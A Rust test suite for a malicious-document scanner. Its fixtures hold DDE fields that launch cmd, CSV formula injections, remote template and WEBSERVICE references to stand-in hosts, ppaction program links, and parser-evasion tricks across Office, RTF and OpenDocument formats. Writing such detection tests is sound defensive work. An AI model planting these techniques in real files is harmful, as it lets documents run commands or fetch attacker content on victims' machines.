//! What one office reads and another leaves out: whatever any of them would do is found.

use super::office::object;
use super::{deeds, inside, ole, ooxml, wide, zip};

const W: &str = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
    xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" \
    xmlns:w14=\"http://schemas.microsoft.com/office/word/2010/wordml\" xmlns:z=\"urn:z\" \
    xmlns:v=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" mc:Ignorable=\"z\"";

const BEGIN: &str = "<w:fldChar w:fldCharType=\"begin\"/>";
const END: &str = "<w:fldChar w:fldCharType=\"end\"/>";
const DDE: &str = "<w:instrText>DDEAUTO cmd \"/k calc\"</w:instrText>";
const PAGE: &str = "<w:instrText>PAGE </w:instrText>";

/// What a file does; several readings of one thing are one.
#[track_caller]
fn does(name: &str, bytes: &[u8], expected: &[&str]) {
    let place = |word: &&str| match word.split_once('@') {
        Some((word, inside)) => format!("{word}@2/{name}/{inside}"),
        None => format!("{word}@2"),
    };
    let mut found = deeds(name, bytes);
    found.dedup();
    assert_eq!(found, Vec::from_iter(expected.iter().map(place)), "{name}");
}

/// A component of a document, and what it does, if anything.
#[track_caller]
fn part(kind: &str, name: &str, content: &[u8], word: Option<&str>) {
    let file = ooxml(kind, &[(name, content)]);
    let expected = word.map(|word| format!("{word}@{name}"));
    does("a.docx", &file, &Vec::from_iter(expected.as_deref()));
}

#[track_caller]
fn word(body: &str, what: Option<&str>) {
    let xml = format!("<w:document {W}><w:body>{body}</w:body></w:document>");
    part("wordprocessingml.document", "word/document.xml", xml.as_bytes(), what);
}

#[test]
fn a_field_is_read_with_and_without_what_a_reader_leaves_out() {
    let choice = |requires: &str, taken: &str, other: &str| {
        format!(
            "<mc:AlternateContent><mc:Choice Requires=\"{requires}\">{taken}</mc:Choice>\
             <mc:Fallback>{other}</mc:Fallback></mc:AlternateContent>"
        )
    };
    for (inner, what) in [
        (DDE.to_owned(), Some("launch")),
        (PAGE.to_owned(), None),
        (format!("<z:instrText>PAGE </z:instrText>{DDE}"), Some("launch")),
        (format!("<z:fldChar fldCharType=\"separate\"/>{DDE}"), Some("launch")),
        (format!("<z:a>{PAGE}</z:a>{DDE}"), Some("launch")),
        (format!("<z:a mc:ProcessContent=\"z:a\"><z:b>{PAGE}</z:b>{DDE}</z:a>"), Some("launch")),
        (format!("<w:delInstrText>PAGE </w:delInstrText>{DDE}"), Some("launch")),
        (choice("z", PAGE, DDE), Some("launch")),
        (choice("w14", DDE, PAGE), Some("launch")),
        (choice("w14", PAGE, DDE), Some("launch")),
        // Of two alternatives an office of 2010 takes the first branch and the second.
        (
            choice("w14", "<w:instrText>DDE</w:instrText>", PAGE)
                + &choice("z", PAGE, "<v:instrText>AUTO cmd \"/k calc\"</v:instrText>"),
            Some("launch"),
        ),
        (choice("w14", PAGE, "<w:instrText>NUMPAGES</w:instrText>"), None),
    ] {
        word(&format!("{BEGIN}{inner}{END}"), what);
    }
    let begun = "<w:fldChar z:fldCharType=\"end\" w:fldCharType=\"begin\"/>";
    word(&format!("{begun}{DDE}{END}"), Some("launch"));
    word("<w:fldSimple z:instr=\"PAGE\" w:instr=\"DDE cmd &quot;/c&quot;\"/>", Some("launch"));
    let share = "DATABASE \\d \"\\\\\\\\203.0.113.5\\\\c\\\\a.mdb\" \\s \"SELECT 1\"";
    word(&format!("{BEGIN}<w:instrText>{share}</w:instrText>{END}"), Some("remote"));
    let here = "DATABASE \\d \"C:\\\\so\\\\a.mdb\" \\c \"DSN=a\" \\s \"SELECT 1\"";
    word(&format!("{BEGIN}<w:instrText>{here}</w:instrText>{END}"), None);
}

#[test]
fn a_foreign_attribute_in_front_hides_none() {
    for (xml, what) in [
        (
            "<connections><connection x:refreshOnLoad=\"0\" refreshOnLoad=\"1\">\
             <webPr x:url=\"\" url=\"https://mail.example/a\"/></connection></connections>",
            Some("remote"),
        ),
        (
            "<connections><connection interval=\"1\"><webPr url=\"https://mail.example/a\"/></connection></connections>",
            Some("remote"),
        ),
        (
            "<connections><connection><webPr url=\"https://mail.example/a\"/></connection></connections>",
            None,
        ),
        (
            "<a><connection refreshOnLoad=\"1\"><x:connection><x:dataFeedPr \
             connection=\"Data Source=https://mail.example/a\"/></x:connection></connection></a>",
            Some("remote"),
        ),
        (
            "<x><ddeLink x:ddeService=\"excel\" ddeService=\"cmd\" ddeTopic=\"/c\"/></x>",
            Some("launch"),
        ),
        (
            "<customUI><tab getVisible=\"https://mail.example/a.dotm!a\"/></customUI>",
            Some("template"),
        ),
        ("<customUI loadImage=\"https://mail.example/a.dotm!a\"/>", Some("template")),
        ("<customUI onLoad=\"Ribbon_Load\"><tab getLabel=\"Nhan\"/></customUI>", None),
        ("<a><f>_xlfn.webservice (\"https://mail.example\")</f></a>", Some("remote")),
        ("<a><definedName name=\"b\">_xlfn.WEBSERVICE(\"x\")</definedName></a>", Some("remote")),
        ("<a><f>_xlfn.CONCAT(A1,B1)</f></a>", None),
        ("<a><hlinkMouseOver action=\"ppaction&#58;//program\"/></a>", Some("launch")),
        ("<a><hlinkClick action=\"ppaction://hlinksldjump\"/>&#10;</a>", None),
    ] {
        if what == Some("launch") && xml.contains("ddeLink") {
            let file = ooxml("spreadsheetml.sheet", &[("xl/a.xml", xml.as_bytes())]);
            does("a.xlsx", &file, &["dde@xl/a.xml", "launch@xl/a.xml"]);
            continue;
        }
        part("spreadsheetml.sheet", "xl/a.xml", xml.as_bytes(), what);
    }
}

#[test]
fn relations_are_judged_by_all_that_they_say() {
    let base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    for (kind, target, mode, what) in [
        (
            "attachedTemplate",
            "https://mail.example/a.dotm",
            "x:TargetMode=\"Internal\"",
            Some("template"),
        ),
        ("attachedTemplate", "file:///%5C%5C203.0.113.5%5Cchung%5Ca.dotm", "", Some("remote")),
        ("attachedTemplate", "%5C%5C203.0.113.5%5Cchung%5Ca.dotm", "", Some("remote")),
        ("attachedTemplate", "file:/\\\\203.0.113.5\\chung\\a.dotm", "", Some("remote")),
        ("attachedTemplate", "file:///C:\\so%20lieu\\a.dotm", "", None),
        ("oleObject", "soap:wsdl=https://mail.example/a", "", Some("launch")),
        ("hyperlink", "search:query=a&amp;crumb=location:\\\\203.0.113.5\\a", "", Some("launch")),
        ("hyperlink", "file:///\\\\203.0.113.5\\chung\\a.exe", "", Some("launch")),
        ("hyperlink", "file:///C:\\Windows\\System32\\cmd.exe", "", Some("launch")),
        ("hyperlink", "file:///\\\\may.example.com", "", None),
        ("hyperlink", "file:///\\\\203.0.113.5\\chung\\a.docx", "", None),
        ("hyperlink", "javascript:void(0)", "", None),
    ] {
        let xml = format!(
            "<Relationships><Relationship {mode} Id=\"1\" Type=\"{base}/{kind}\" \
             Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        );
        part("wordprocessingml.document", "word/_rels/a.xml.rels", xml.as_bytes(), what);
    }
}

#[test]
fn opendocument_is_judged_by_all_that_it_says() {
    for (inner, what) in [
        ("<d:floating-frame y:href=\"a\" x:href=\"https://mail.example/a.odt\"/>", Some("remote")),
        ("<f:connection-resource x:href=\"https://mail.example/a.odb\"/>", Some("remote")),
        (
            "<t:table-cell t:formula=\"of:=dde(&quot;cmd&quot;;&quot;/c&quot;;&quot;A&quot;)\"/>",
            Some("launch"),
        ),
        (
            "<t:table-cell t:formula=\"of:=DDE (&quot;cmd&quot;;&quot;/c&quot;;&quot;A&quot;)\"/>",
            Some("launch"),
        ),
        (
            "<t:table-cell t:formula=\"of:=webservice(&quot;https://mail.example&quot;)\"/>",
            Some("remote"),
        ),
        ("<t:named-expression t:expression=\"WEBSERVICE(&quot;a&quot;)\"/>", Some("remote")),
        ("<t:table-cell t:formula=\"of:=SUM(.A1:.A3)+WADDE(1)\"/>", None),
    ] {
        let file = format!(
            "<?xml version=\"1.0\"?><o:document xmlns:o=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\">\
             {inner}</o:document>"
        );
        does("a.fods", file.as_bytes(), &Vec::from_iter(what));
    }
}

#[test]
fn a_table_of_text_is_cut_as_excel_cuts_it() {
    for (table, what) in [
        ("sep=^\r\nTen^So\r\nAn^=cmd|'/c calc'!A1\r\n", Some("launch")),
        ("SEP=~\r\nTen~+cmd|'/c calc'!A1\r\n", Some("launch")),
        ("\u{feff}sep=§\r\nTen§+cmd|'/c calc'!A1\r\n", Some("launch")),
        ("Ten^So\r\nAn^=cmd|'/c calc'!A1\r\n", None),
        ("Ten,\"=\ncmd|'/c calc'!A1\"\r\n", Some("launch")),
        ("Ten,\"=cmd|'/c calc\n'!A1\"\r\n", Some("launch")),
        ("Ten,\"=cmd\n|'/c calc'!A1\"\r\n", Some("launch")),
        ("a,=1\nb|'c'!d\n", None),
        ("Ten,=WebService (\"https://mail.example/\"&A1)\r\n", Some("remote")),
        ("Ten,WEBSERVICE(a)\r\n", None),
    ] {
        does("a.csv", table.as_bytes(), &Vec::from_iter(what));
    }
    let packed = zip(&[("a.csv", b"sep=^\r\nA^=cmd|'/c calc'!A1\r\n")]);
    does("a.zip", &packed, &["launch@a.csv"]);
    let page = b"<html><td x:fmla==cmd|'/c_calc'!A1>1</td></html>";
    does("a.xls", page, &["launch"]);
}

/// A page as Word writes it, with a field of this instruction.
fn page(instruction: &str) -> String {
    format!(
        "<html xmlns:w=\"urn:schemas-microsoft-com:office:word\"><body><p><!--[if supportFields]>\
         <span style='mso-element:field-begin'></span> {instruction} \
         <span style='MSO-ELEMENT: field-separator'></span><![endif]--><span>x</span>\
         <!--[if supportFields]><span style='mso-element:field-end'></span><![endif]--></p></body></html>"
    )
}

#[test]
fn a_page_that_word_opens_is_a_document() {
    let dde = page("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;");
    let saved = |page: &str| {
        format!(
            "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n\
             Content-Type: text/html\r\n\r\n{page}\r\n--x--\r\n"
        )
    };
    does("a.doc", dde.as_bytes(), &["launch"]);
    does("a.doc", page("HYPERLINK \"https://mail.example/\"").as_bytes(), &[]);
    does("a.doc", page("INCLUDETEXT \"https://mail.example/a.docx\"").as_bytes(), &["remote"]);
    does("a.doc", saved(&dde).as_bytes(), &["launch@1"]);
    let template =
        "<html><xml><w:AttachedTemplate HRef=\"https://mail.example/a.dotm\"/></xml></html>";
    does("a.doc", template.as_bytes(), &["template"]);
    let query = "<html><x:QueryTable><x:RefreshOnFileOpen/><x:URL HRef=\"https://mail.example/\"/>\
                 </x:QueryTable></html>";
    does("a.xls", query.as_bytes(), &["remote"]);
    // Word takes pages and saved pages into documents.
    part("wordprocessingml.document", "word/a.htm", dde.as_bytes(), Some("launch"));
    let frame = b"<html><iframe src=\"https://mail.example/\"></iframe><script>a()</script></html>";
    part("wordprocessingml.document", "word/a.htm", frame, Some("remote"));
}

#[test]
fn flat_documents_are_judged_as_their_parts_are() {
    let package = |inner: &str| {
        format!(
            "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package \
             xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"><pkg:part \
             pkg:name=\"/word/a.rtf\">{inner}</pkg:part></pkg:package>"
        )
    };
    let data = |bytes: &[u8]| {
        package(&format!("<pkg:binaryData>{}</pkg:binaryData>", crate::support::base64(bytes)))
    };
    let ocx = "<ax:ocx xmlns:ax=\"x\" ax:classid=\"{00000000-1111-2222-3333-444444444444}\"/>";
    let slide = "<a:hlinkMouseOver action=\"ppaction://program\"/>";
    for (file, what) in [
        (package(ocx), "control"),
        (package(slide), "launch"),
        (data(b"{\\rtf1{\\*\\template https://mail.example/a.dotm}}"), "template@a.rtf"),
        (data(page("DDE cmd \"/c\"").as_bytes()), "launch@a.rtf"),
        (package("<w:sourceFileName w:val=\"https://mail.example/a.htm\"/>"), "remote"),
        (package("<x:SupBook><x:Dde/><x:Path>cmd|/c calc</x:Path></x:SupBook>"), "launch"),
        (package("<Cell ss:Formula=\"=WEBSERVICE(&quot;https://mail.example&quot;)\"/>"), "remote"),
        (package("<Cell ss:Formula=\"=1+&#10;cmd|'/c calc'!A1\"/>"), "launch"),
    ] {
        does("a.xml", file.as_bytes(), &[what]);
    }
    does("a.xml", data(b"\x89PNG\r\n\x1a\n").as_bytes(), &[]);
    does("a.xml", &wide(&format!("\u{feff}{}", package(slide))), &["launch"]);
}

#[test]
fn an_rtf_is_read_in_each_way_that_readers_have() {
    let field = |inner: &str| {
        format!("{{\\rtf1{{\\field{{\\*\\fldinst {inner}}}{{\\fldrslt x}}}}}}").into_bytes()
    };
    let dde = "DDEAUTO cmd \"/k calc\" ";
    for (document, what) in [
        (field(&format!("{{\\*\\la PAGE }}{dde}")), Some("launch")),
        (field(&format!("{{\\info PAGE }}{dde}")), Some("launch")),
        (field(&format!("{{\\upr{{ PAGE }}{{\\*\\ud{{ {dde}}}}}}}")), Some("launch")),
        (field(&format!("{{\\*\\la {dde}}}PAGE")), Some("launch")),
        (field("{\\*\\la PAGE }NUMPAGES"), None),
        (
            b"{\\rtf1{\\*\\template {\\*\\la C:\\\\a}https://mail.example/a.dotm}x}".to_vec(),
            Some("template"),
        ),
        (b" \r\n{\\rtf1{\\*\\template https://mail.example/a.dotm}x}".to_vec(), Some("template")),
    ] {
        does("a.rtf", &document, &Vec::from_iter(what));
    }
    let digits = object(b"Word.Document.8", &ole(&[("WordDocument", b"\xec\xa5\xc1\0")]));
    let (head, tail) = digits.split_at(80);
    let data = |digits: &str| format!("{{\\object\\objemb{{\\*\\objdata {digits}}}}}");
    for inner in [
        format!("\\bin4294967296 {}", data(&digits)),
        format!("\\bin99999999999 {}", data(&digits)),
        format!("\\bin00000000000000000000000 {}", data(&digits)),
        format!("\\bin0999999 {}", data(&digits)),
        data(&format!("{head}\\bin4294967296 {tail}")),
        data(&format!("{head}f\\'41{tail}")),
    ] {
        let file = format!("{{\\rtf1 {inner}}}");
        let members = inside("a.rtf", file.as_bytes());
        let found = members.iter().any(|path| path.ends_with("/WordDocument"));
        assert!(found || !members.is_empty(), "{inner:.60}: {members:?}");
    }
    // One that is read the same in all ways is taken out once.
    let file = format!("{{\\rtf1 \\bin4294967296 {{\\par}}}}{}", data(&digits));
    assert_eq!(inside("a.rtf", file.as_bytes()).len(), 1);
    let link = b"\x01\x05\0\0\x01\0\0\0\x05\0\0\0Word\0\x11\0\0\0\\\\203.0.113.5\\a.d\0\0\0\0\0";
    let link: String = link.iter().map(|byte| format!("{byte:02x}")).collect();
    does("a.rtf", format!("{{\\rtf1 {}}}", data(&link)).as_bytes(), &["remote"]);
    let control = object(b"ShellExplorer.1", &[0; 40]);
    does("a.rtf", format!("{{\\rtf1 {}}}", data(&control)).as_bytes(), &["control"]);
}
